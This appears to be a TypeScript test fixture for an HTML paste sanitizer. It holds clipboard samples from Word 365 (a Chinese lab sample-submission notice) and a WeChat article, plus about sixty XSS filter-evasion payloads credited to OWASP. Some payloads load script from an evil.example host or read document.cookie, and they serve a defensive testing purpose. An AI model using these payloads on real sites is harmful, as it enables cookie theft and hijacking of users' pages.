/** As Word 365 puts it on the clipboard, shortened. */
export const word = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- p.MsoNormal {margin:0cm; font-size:10.5pt; font-family:Calibri;} @list l0:level1 {mso-level-number-format:bullet;} --></style>
</head><body lang=ZH-CN style='tab-interval:21.0pt'><!--StartFragment-->
<h1 style='mso-margin-top-alt:auto'><b><span style='font-family:DengXian;mso-ascii-font-family:Calibri'>扫描电镜送样须知<o:p></o:p></span></b></h1>
<h2><a name="_Toc1"></a><span style='mso-bidi-font-size:16pt'>一、样品</span><span lang=EN-US><o:p></o:p></span></h2>
<p class=MsoNormal style='text-indent:21.0pt'><span style='font-family:DengXian'>&nbsp;&nbsp;粉末<b style='mso-bidi-font-weight:normal'>不少于</b></span><span lang=EN-US>20 mg，H<sub>2</sub>O </span>含量<i>低于</i><span lang=EN-US>10<span style='vertical-align:super'>-3</span></span>。<o:p></o:p></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoListParagraphCxSpFirst style='margin-left:21.0pt;text-indent:-21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US style='font-family:Wingdings;mso-list:Ignore'>l<span style='font:7.0pt "Times New Roman"'>&nbsp; </span></span><![endif]>粉末<o:p></o:p></p>
<p class=MsoListParagraphCxSpMiddle style='margin-left:42.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>n<span>&nbsp;&nbsp;</span></span><![endif]>研磨</p>
<p class=MsoListParagraphCxSpLast style='margin-left:21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>l<span>&nbsp;</span></span><![endif]>块体</p>
<p class=MsoNormal>步骤：</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>1.<span>&nbsp;&nbsp; </span></span><![endif]>登记</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>2.<span>&nbsp;&nbsp; </span></span><![endif]>寄送</p>
<p class=MsoNormal>收到之后：</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>3.<span>&nbsp;&nbsp; </span></span><![endif]>验收</p>
<table class=MsoTableGrid border=1 cellspacing=0 style='border-collapse:collapse;mso-yfti-tbllook:1184'>
 <tr style='mso-yfti-irow:0'><td width=277 colspan=2 valign=top style='width:207pt;border:solid windowtext 1.0pt'><p class=MsoNormal><span>项目与周期<o:p></o:p></span></p></td></tr>
 <tr><td width=138><p class=MsoNormal>形貌</p></td><td><p class=MsoNormal><span lang=EN-US>3 </span>个工作日</p></td></tr>
</table>
<p class=MsoNormal><a href="https://journal.example/1"><span style='text-decoration:underline'>方法说明</span></a>，<a href="#_Toc1">见第一节</a><span style='mso-no-proof:yes'><!--[if gte vml 1]><v:shape id="x"/><![endif]--><![if !vml]><img width=300 height=200 src="file:///C:/Users/a/AppData/Local/Temp/msohtmlclip1/01/clip_image002.jpg" v:shapes="x"><![endif]></span></p>
<!--EndFragment--></body></html>`

/** As an article of WeChat's official accounts is copied from a browser, shortened. */
export const wechat = `<meta charset='utf-8'><section data-tool="mdnice" style="font-size:16px;line-height:1.75;color:#3f3f3f" data-mpa-powered-by="yiqi">
<section style="margin:0 8px"><p style="text-indent:2em"><span leaf="" style="letter-spacing:1px">\u3000\u3000本周完成<span style="font-weight: bold;color:#d32">冷冻电镜</span>验收</span></p></section>
<section style="text-align:center"><span leaf=""><br></span></section>
<section><section><span leaf="">即日起接受预约</span></section></section>
<section nodeleaf="" style="text-align:center"><img class="rich_pages wxw-img" data-ratio="0.66" data-src="https://mmbiz.qpic.cn/mmbiz_png/a/640?wx_fmt=png" data-w="1080" src="data:image/svg+xml,%3Csvg%3E"></section>
<ul class="list-paddingleft-1" style="list-style-type:disc"><li><p>负染筛查</p></li><li><section><span>数据收集</span></section></li></ul>
<blockquote class="js_blockquote_wrap" data-type="2"><section class="js_blockquote_digest"><section>首次筛查免费</section></section></blockquote>
<figure><img data-src="https://mmbiz.qpic.cn/mmbiz_jpg/b/640"><figcaption style="font-size:12px">图一 颗粒</figcaption></figure>
<iframe class="video_iframe" data-src="https://v.qq.com/x"></iframe><mpvoice name="x"></mpvoice><section style="display:none"><mp-style-type data-value="3">隐藏</mp-style-type></section><script>x()</script></section>`

/** From the OWASP cheat sheet on filter evasion. */
export const evasions = [
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC= onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;(1)>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u200bjavascript:alert(1)">x</a>',
  '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://evil.example/xss.js?< B >',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<svg/onload=alert(1)>',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<BR SIZE="&{alert(1)}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME><IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">x',
  '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
  '<DIV STYLE="width: expression(alert(1));">x</DIV>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/x.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
  '<form><button formaction="javascript:alert(1)">x</button><isindex action=javascript:alert(1) type=image></form>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg><p><style><g title="</style><img src onerror=alert(1)>"></p></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example/">x</a><a href="/\\evil.example/">y</a><a href="\\\\evil.example">z</a>',
  '<div data-upload="1"></div><div data-pm-slice="0 0 [&quot;figure&quot;,{&quot;name&quot;:&quot;x&quot;}]"><p>x</p></div>',
  '<a href="https://ok.example" ping="https://evil.example" target="_top" style="position:fixed">x</a>',
]
